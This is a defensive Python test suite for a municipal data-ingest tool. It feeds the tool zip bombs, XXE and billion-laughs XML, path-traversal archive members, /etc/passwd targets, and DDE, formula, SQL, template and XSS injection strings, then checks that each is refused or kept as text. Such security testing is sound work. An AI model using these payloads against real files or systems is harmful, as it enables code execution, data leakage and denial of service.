"""Files that mean harm: each is refused or read as text, in bounded memory and time, and nothing is written elsewhere."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import struct
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import duckdb
import openpyxl
import pytest

from kodomo_assets.catalogue import load_catalogue
from kodomo_assets.errors import DeliveryError
from kodomo_assets.office.inbox import check_known_files, create_inbox, scan_inbox
from kodomo_assets.office.problems import Problem
from kodomo_assets.stages.sources.read import DeliveryOutcome, read_delivery
from kodomo_assets_tests.sources.office_files import Build, book, locked, patched, replaced, text

R = dt.date(2025, 4, 1)
CATALOGUE = load_catalogue()
HEADER = ["宛名番号", "開始日", "廃止日", "扶助種別"]
ROW = ["7700010001", "2024-04-01", None, "生活"]
TABLE = [HEADER, ROW]
ACCEPTED = [("7700010001", dt.date(2024, 4, 1), None, "生活")]
CSV = text(",".join(HEADER), "7700010001,2024-04-01,,生活")
SHEET = "xl/worksheets/sheet1.xml"
ROOT = Path(__file__).parents[2]


class Inbox:
    """An inbox folder, beside a temp folder of its own and a folder where nothing may change."""

    def __init__(self, folder: Path) -> None:
        self.root, self.folder = folder, folder / "deep" / "inbox"
        self.folder.mkdir(parents=True)
        self.temporary = folder / "temporary"
        self.temporary.mkdir()
        self.con = duckdb.connect()
        self.catalogue = CATALOGUE

    def configure(self, overlay: str) -> None:
        (self.root / "city.yaml").write_text(overlay, "utf-8")
        self.catalogue = load_catalogue(self.root / "city.yaml")

    def put(self, name: str, content: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(content)
        return path

    def read(self, table: str = "public_assistance") -> DeliveryOutcome:
        files = [file for file in scan_inbox(self.folder, self.catalogue) if file.table_id == table]
        before = self.everything()
        try:
            return read_delivery(self.con, self.catalogue, self.catalogue.tables[table], files, R)
        finally:
            # private copies are gone too
            assert self.everything() == before

    def refused(self) -> Problem:
        with pytest.raises(DeliveryError) as error:
            self.read()
        (problem,) = error.value.problems
        assert "770001" not in problem.message
        assert problem.message.startswith(problem.file)
        return problem

    def everything(self) -> list[tuple]:
        """Every path in reach of ``../``, and of files their size and time."""
        paths = ((path, path.lstat()) for path in self.root.rglob("*"))
        return sorted(
            (str(path), *((0, 0) if path.is_dir() else (stat.st_size, stat.st_mtime_ns))) for path, stat in paths
        )

    def rows(self) -> list[tuple]:
        return self.con.execute(
            "select resident_id, started_on, ended_on, aid_type from new_public_assistance order by source_row"
        ).fetchall()


@pytest.fixture
def inbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    found = Inbox(tmp_path)
    monkeypatch.setattr(tempfile, "tempdir", str(found.temporary))
    with closing(found.con):
        yield found


# --- workbooks -------------------------------------------------------------------------------------------------------


def blown_up(megabytes: int) -> bytes:
    """A sound workbook whose sheet holds so many megabytes of blanks behind its table."""
    content = book({"生活保護": TABLE})()
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for name in old.namelist():
            with new.open(name, "w") as part:
                part.write(old.read(name))
                if name == SHEET:
                    for _ in range(megabytes):
                        part.write(b" " * 1_000_000)
    return file.getvalue()


def with_size(content: bytes, part: str, size: int) -> bytes:
    """The zip with another uncompressed size of the part in its directory and in the part's own header."""
    changed = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        header = archive.getinfo(part).header_offset
    entry = content.index(part.encode(), content.index(b"PK\x01\x02")) - 46
    assert content[entry : entry + 4] == b"PK\x01\x02"
    struct.pack_into("<I", changed, entry + 24, size)
    struct.pack_into("<I", changed, header + 22, size)
    return bytes(changed)


def test_a_sheet_that_is_larger_inside_than_allowed(inbox):
    inbox.configure("ingest: {max_workbook_mb: 5}")
    bomb = blown_up(20)
    assert len(bomb) < 200_000
    inbox.put("生活保護.xlsx", bomb)
    problem = inbox.refused()
    assert problem.reason == "too_large_inside"
    assert "bytes inside" in problem.message
    assert "expected at most 5,000,000" in problem.message


def test_the_same_sheet_within_the_limit_is_read(inbox):
    inbox.put("生活保護.xlsx", blown_up(20))
    inbox.read()
    assert inbox.rows() == ACCEPTED


def test_a_sheet_that_is_too_large_inside_and_behind_a_password(inbox):
    inbox.configure("ingest: {max_workbook_mb: 5, password_file: p.txt}")
    (inbox.root / "p.txt").write_text("himitsu")
    (inbox.root / "p.txt").chmod(0o600)
    inbox.put("生活保護.xlsx", locked(lambda: blown_up(20), "himitsu")())
    assert inbox.refused().reason == "too_large_inside"


@pytest.mark.parametrize("size", [0, 1000])
def test_a_zip_that_lies_about_its_size(inbox, size):
    """Who believes the small size inflates twenty megabytes; who inflates that many only finds a cut-off sheet."""
    inbox.configure("ingest: {max_workbook_mb: 5}")
    inbox.put("生活保護.xlsx", with_size(blown_up(20), SHEET, size))
    assert inbox.refused().reason in {"unreadable_workbook", "too_large_inside"}


def test_a_zip_that_claims_four_gigabytes(inbox):
    inbox.put("生活保護.xlsx", with_size(book({"生活保護": TABLE})(), SHEET, 0xFFFFFFF0))
    assert inbox.refused().reason == "too_large_inside"


def with_document_type(parts: dict[str, bytes], part: str, declaration: bytes) -> None:
    """Puts a document type before the part's first element."""
    xml = parts[part]
    start = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    parts[part] = xml[:start] + declaration + xml[start:]


def in_utf16(parts: dict[str, bytes]) -> None:
    """A sheet in UTF-16, in which a search for the bytes of ``<!DOCTYPE`` finds nothing."""
    parts[SHEET] = '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + parts[SHEET].decode().encode(
        "utf-16-le"
    )


def behind_a_long_comment(parts: dict[str, bytes]) -> None:
    parts[SHEET] = parts[SHEET].replace(b"<!DOCTYPE", b"<!--" + b"x" * 3_000_000 + b"--><!DOCTYPE")


def under_another_name(parts: dict[str, bytes]) -> None:
    """A sheet whose part does not end in .xml: the relationships say what it is."""
    parts["xl/worksheets/sheet1.dat"] = parts.pop(SHEET)
    for part in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
        replaced(part, b"worksheets/sheet1.xml", b"worksheets/sheet1.dat")(parts)


@pytest.mark.parametrize("disguise", [None, in_utf16, behind_a_long_comment, under_another_name])
def test_a_sheet_with_an_external_entity(inbox, disguise: Callable[[dict[str, bytes]], None] | None):
    (inbox.root / "shadow").write_text("9990001")
    uri = (inbox.root / "shadow").as_uri().encode()

    def patch(parts: dict[str, bytes]) -> None:
        replaced(SHEET, b"<t>7700010001</t>", b"<t>&e;</t>")(parts)
        with_document_type(parts, SHEET, b'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "' + uri + b'">]>')
        if disguise is not None:
            disguise(parts)

    inbox.put("生活保護.xlsx", patched(book({"生活保護": TABLE})(), patch))
    problem = inbox.refused()
    assert problem.reason == "unsafe_workbook"
    assert "999" not in problem.message


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "[Content_Types].xml", "_rels/.rels", "docProps/core.xml"])
def test_a_workbook_whose_entities_grow_without_end(inbox, part):
    laughs = b'<!DOCTYPE x [<!ENTITY a "lol">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    inbox.put(
        "生活保護.xlsx", patched(book({"生活保護": TABLE})(), lambda p: with_document_type(p, part, laughs + b"]>"))
    )
    assert inbox.refused().reason == "unsafe_workbook"


def test_a_stray_cell_in_the_last_corner_of_a_sheet(inbox):
    inbox.put("生活保護.xlsx", book({"生活保護": TABLE}, lambda b: b.active.cell(1_048_576, 16_384, "x"))())
    problem = inbox.refused()
    assert (problem.reason, problem.sheet) == ("too_large_inside", "生活保護")
    assert "1,048,576" in problem.message
    assert "16,384" in problem.message


def test_a_sheet_that_only_says_that_it_is_large_is_read(inbox):
    def patch(parts: dict[str, bytes]) -> None:
        replaced(SHEET, b'ref="A1:D2"', b'ref="A1:XFD1048576"')(parts)
        replaced(
            SHEET, b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="E1:XFD1048576"/></mergeCells>'
        )(parts)

    inbox.put("生活保護.xlsx", patched(book({"生活保護": TABLE})(), patch))
    inbox.read()
    assert inbox.rows() == ACCEPTED


@pytest.mark.parametrize("rounds", [b"9000000", b"4000000000"])
def test_a_password_that_asks_for_endless_rounds_of_hashing(inbox, rounds):
    inbox.configure("ingest: {password_file: p.txt}")
    (inbox.root / "p.txt").write_text("himitsu")
    (inbox.root / "p.txt").chmod(0o600)
    content = locked(book({"生活保護": TABLE}), "himitsu")()
    start = content.index(b'spinCount="100000"')
    end = content.index(b"hashSize", start)
    asking = content[start:end].replace(b"100000", rounds)
    # the stream keeps its length: blanks between the attributes make room for the digits
    longer = len(asking) - (end - start)
    assert asking.endswith(b" " * longer)
    inbox.put("生活保護.xlsx", content[:start] + asking[:-longer] + content[end:])
    assert inbox.refused().reason == "unsafe_workbook"


def test_a_sheet_named_like_a_path_is_a_name(inbox):
    rename = replaced("xl/workbook.xml", b'name="S1"', b'name="../../x"')
    inbox.put("生活保護.xlsx", patched(book({"S1": TABLE})(), rename))
    inbox.read()
    assert inbox.con.execute("select resident_id, source_sheet from new_public_assistance").fetchall() == [
        ("7700010001", "../../x")
    ]


@pytest.mark.parametrize("member", ["../../x", "../../../deep/x.xml", "/x", "..\\..\\x", "C:\\x", "xl/../../x.xml"])
def test_a_zip_member_named_like_a_path_is_not_written(inbox, member):
    inbox.put("生活保護.xlsx", patched(book({"生活保護": TABLE})(), lambda parts: parts.update({member: b"<x/>"})))
    inbox.read()
    assert inbox.rows() == ACCEPTED
    assert not Path(member).exists()


@pytest.mark.parametrize(
    "target", ["../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1:9/x"]
)
def test_a_workbook_that_points_outside_itself(inbox, target):
    def patch(parts: dict[str, bytes]) -> None:
        rels = "xl/_rels/workbook.xml.rels"
        start = parts[rels].index(b"/xl/worksheets/sheet1.xml")
        parts[rels] = parts[rels][:start] + target.encode() + parts[rels][start + len("/xl/worksheets/sheet1.xml") :]

    inbox.put("生活保護.xlsx", patched(book({"生活保護": TABLE})(), patch))
    problem = inbox.refused()
    assert problem.reason == "unreadable_workbook"
    assert "root" not in problem.message


# --- cells that a spreadsheet would run ------------------------------------------------------------------------------

COMMANDS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "'; drop table new_resident_register; --",
    "{{7*7}}${7*7}<script>alert(1)</script>",
]


def as_text(workbook: openpyxl.Workbook) -> None:
    for row in workbook.active.iter_rows(min_row=2):
        row[2].data_type = "s"


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_commands_in_cells_stay_text(inbox, ending):
    header = ["宛名番号", "世帯番号", "氏名", "生年月日", "消除日", "支援措置"]
    lines = [
        [f"{n:010d}", "0000000099", command, "2015-05-05", None, None] for n, command in enumerate(COMMANDS, start=1)
    ]
    if ending == "csv":
        quoted = [["" if c is None else '"' + c.replace('"', '""') + '"' for c in line] for line in lines]
        inbox.put("住民記録.csv", text(",".join(header), *map(",".join, quoted))())
    else:
        inbox.put("住民記録.xlsx", book({"住民記録": [header, *lines]}, as_text)())
    inbox.read("resident_register")
    names = inbox.con.execute("select name from new_resident_register order by source_row").fetchall()
    assert [name for (name,) in names] == COMMANDS


def test_a_command_in_quarantine_stays_text(inbox):
    inbox.put("生活保護.csv", text(",".join(HEADER), f"7700010001,2024-04-01,{COMMANDS[0]},")())
    inbox.read()
    assert inbox.con.execute("select reason, raw_value from new_quarantine").fetchall() == [("not_a_date", COMMANDS[0])]


def test_names_that_would_end_a_statement_are_names(inbox):
    name = "生活保護_'); drop table new_public_assistance; --.csv"
    inbox.put(name, CSV())
    inbox.put("生活保護_$1 ' \" % *?[a-z].csv", CSV().replace(b"0001,", b"0002,"))
    outcome = inbox.read()
    assert outcome.rows_accepted == 2
    assert (name,) in inbox.con.execute("select source_file from new_public_assistance").fetchall()


# --- the folder ------------------------------------------------------------------------------------------------------


def only_file(inbox: Inbox) -> tuple[str | None, str | None]:
    """Table and problem of the one file that the inbox lists; it is reported, and the report has one line."""
    (file,) = scan_inbox(inbox.folder, inbox.catalogue)
    outcome = check_known_files([file])
    assert not outcome.passed
    assert str(file.problem) in outcome.message
    outcome.message.encode("utf-8")
    assert outcome.message.isprintable()
    create_inbox(inbox.con, [file], R)
    assert inbox.con.execute("select problem from new_inbox").fetchall() == [(file.problem,)]
    return file.table_id, file.problem


@pytest.mark.parametrize("there", [True, False])
def test_a_symbolic_link_is_reported_and_never_followed(inbox, there):
    target = inbox.root / "elsewhere.csv"
    if there:
        target.write_bytes(CSV())
    (inbox.folder / "生活保護.csv").symlink_to(target)
    assert only_file(inbox) == (None, "symbolic_link")


def test_a_symbolic_link_to_a_folder_or_a_device_is_reported_and_never_followed(inbox):
    (inbox.folder / "生活保護_a.csv").symlink_to(inbox.root)
    (inbox.folder / "生活保護_b.csv").symlink_to("/dev/zero")
    assert [file.problem for file in scan_inbox(inbox.folder, inbox.catalogue)] == ["symbolic_link"] * 2


@pytest.mark.parametrize("sign", ["\n", "\r", "\t", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u202e"])
def test_a_file_name_that_breaks_a_line_or_hides_itself(inbox, sign):
    inbox.put(f"生活保護_a{sign}b.csv", CSV())
    assert only_file(inbox) == (None, "bad_file_name")


def test_a_file_name_in_another_encoding(inbox):
    """An archive that was packed on Windows leaves names in CP932."""
    (Path(os.fsdecode(os.fsencode(inbox.folder) + b"/" + "生活保護.csv".encode("cp932")))).write_bytes(CSV())
    assert only_file(inbox) == (None, "bad_file_name")


def test_pipes_and_folders_are_no_files(inbox):
    os.mkfifo(inbox.folder / "生活保護.csv")
    (inbox.folder / "生活保護_a.csv").mkdir()
    assert scan_inbox(inbox.folder, inbox.catalogue) == []


def unlink(path: Path) -> None:
    path.unlink()


def lock(path: Path) -> None:
    path.chmod(0)


def make_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "spoil",
    [unlink, make_folder, pytest.param(lock, marks=pytest.mark.skipif(os.geteuid() == 0, reason="root reads all"))],
)
def test_a_file_that_cannot_be_opened(inbox, ending, spoil):
    path = inbox.put(f"生活保護.{ending}", CSV())
    files = scan_inbox(inbox.folder, inbox.catalogue)
    spoil(path)
    with pytest.raises(DeliveryError) as error:
        read_delivery(inbox.con, inbox.catalogue, inbox.catalogue.tables["public_assistance"], files, R)
    assert [(p.file, p.reason) for p in error.value.problems] == [(f"生活保護.{ending}", "cannot_be_opened")]


def test_too_little_memory_is_no_fault_of_a_file(inbox):
    """The office was told that its rows cannot be told apart, and to save a sound file again."""
    inbox.con.execute("set memory_limit = '100MB'")
    inbox.put("生活保護.csv", CSV())
    with pytest.raises(duckdb.OutOfMemoryException):
        inbox.read()


def test_a_file_just_too_large(inbox):
    inbox.configure("ingest: {max_file_mb: 1}")
    content = CSV()
    path = inbox.put("生活保護.csv", content)
    os.truncate(path, 1_000_001)
    problem = inbox.refused()
    assert problem.reason == "too_large"
    assert "expected at most 1,000,000" in problem.message
    path.write_bytes(content + b"\n" * (1_000_000 - len(content)))
    inbox.read()
    assert inbox.rows() == ACCEPTED


# --- size ------------------------------------------------------------------------------------------------------------

# Reads the inboxes one after the other, a sound one first, and prints of each: reason, growth of the peak, megabytes
# read (0 where the system does not count them). No time: a loaded machine serves others too.
MEASURE = """
import datetime as dt, json, resource, sys
from pathlib import Path
import duckdb
from kodomo_assets.catalogue import load_catalogue
from kodomo_assets.errors import DeliveryError
from kodomo_assets.office.inbox import scan_inbox
from kodomo_assets.stages.sources.read import read_delivery

peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
counted = Path("/proc/self/io")
taken = lambda: int(counted.read_text().split()[1]) / (1 << 20) if counted.exists() else 0
# a file that asks for more than this fails, and takes nothing from others
resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))
found = {}
for folder in map(Path, sys.argv[1:]):
    catalogue = load_catalogue(folder.parent / "city.yaml")
    before, start = peak(), taken()
    try:
        with duckdb.connect() as con:
            table = catalogue.tables["public_assistance"]
            read_delivery(con, catalogue, table, scan_inbox(folder, catalogue), dt.date(2025, 4, 1))
        reason = None
    except DeliveryError as error:
        (problem,) = error.problems
        reason = problem.reason
    except Exception as error:
        reason = repr(error)
    found[folder.name] = reason, peak() - before, taken() - start
print(json.dumps(found))
"""
MOST_MEGABYTES = 150


def sparse(path: Path, size: int, start: bytes = b"") -> None:
    """A file of ``size`` bytes that takes no room on the disk."""
    path.write_bytes(start)
    os.truncate(path, size)


STRAY_CELL = book({"生活保護": TABLE}, lambda workbook: workbook.active.cell(1_048_576, 16_384, "x"))
WIDE = ["宛名番号", "開始日", *(f"項目{number}" for number in range(16_000))]

#: name -> reason, ending, how it is written
LARGE: dict[str, tuple[str | None, str, Callable[[Path], object]]] = {
    "sound": (None, "csv", lambda p: p.write_bytes(CSV())),
    "sound_book": (None, "xlsx", lambda p: p.write_bytes(book({"生活保護": TABLE})())),
    "two_gigabytes": ("too_large", "csv", lambda p: sparse(p, 2 << 30, CSV())),
    "large_book": ("too_large", "xlsx", lambda p: sparse(p, 2 << 30, b"PK\x03\x04")),
    "endless_line": ("line_too_long", "csv", lambda p: sparse(p, 400_000_000, CSV())),
    "endless_quote": ("bad_quotes", "csv", lambda p: p.write_bytes(CSV() + b'1,2024-04-01,,"' + b"\n" * 50_000_000)),
    "bomb": ("too_large_inside", "xlsx", lambda p: p.write_bytes(blown_up(300))),
    "lying_bomb": ("unreadable_workbook", "xlsx", lambda p: p.write_bytes(with_size(blown_up(300), SHEET, 1000))),
    "stray_cell": ("too_large_inside", "xlsx", lambda p: p.write_bytes(STRAY_CELL())),
}

#: Small files whose width is large: read or refused, as long as it is bounded.
WIDE_FILES: dict[str, tuple[str, Build]] = {
    "wide_header": ("csv", text(",".join(WIDE), "7700010001,2024-04-01")),
    "wide_book_header": ("xlsx", book({"生活保護": [WIDE, ["7700010001", "2024-04-01"]]})),
    "wide_row": ("csv", text("宛名番号,開始日", "7700010001,2024-04-01" + "," * 900_000)),
    "wide_blank_header": ("csv", text("宛名番号,開始日" + "," * 900_000, "7700010001,2024-04-01")),
}


def measure(root: Path, *names: str) -> dict[str, tuple[str | None, float, float]]:
    """Of each inbox: why its file was refused, growth of the peak of memory in MB, MB read of files."""
    ran = subprocess.run(
        [sys.executable, "-c", MEASURE, *(str(root / name) for name in names)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )
    assert ran.returncode == 0, ran.stderr[-2000:]
    return json.loads(ran.stdout)


def assert_bounded(measured: dict[str, tuple[str | None, float, float]]) -> None:
    costs = {name: megabytes for name, (_, megabytes, _) in measured.items() if not name.startswith("sound")}
    assert all(megabytes < MOST_MEGABYTES for megabytes in costs.values()), costs


def test_large_files_are_refused_in_bounded_memory(tmp_path):
    (tmp_path / "city.yaml").write_text("ingest: {max_workbook_mb: 50}")
    for name, (_, ending, write) in LARGE.items():
        (tmp_path / name).mkdir()
        write(tmp_path / name / f"生活保護.{ending}")
    measured = measure(tmp_path, *LARGE)
    assert {name: reason for name, (reason, *_) in measured.items()} == {n: reason for n, (reason, *_) in LARGE.items()}
    assert_bounded(measured)
    # refused for its size: no more of it is read than its first bytes
    assert measured["two_gigabytes"][2] < 1
    assert measured["large_book"][2] < 1


@pytest.mark.parametrize("name", WIDE_FILES)
def test_wide_files_take_bounded_memory(tmp_path, name):
    (tmp_path / "city.yaml").write_text("{}")
    ending, build = WIDE_FILES[name]
    for folder, content in (("sound", CSV), (name, build)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / f"生活保護.{'csv' if folder == 'sound' else ending}").write_bytes(content())
    measured = measure(tmp_path, "sound", name)
    assert measured["sound"][0] is None
    assert measured[name][0] in {None, "too_large_inside", "too_many_columns"}
    assert_bounded(measured)
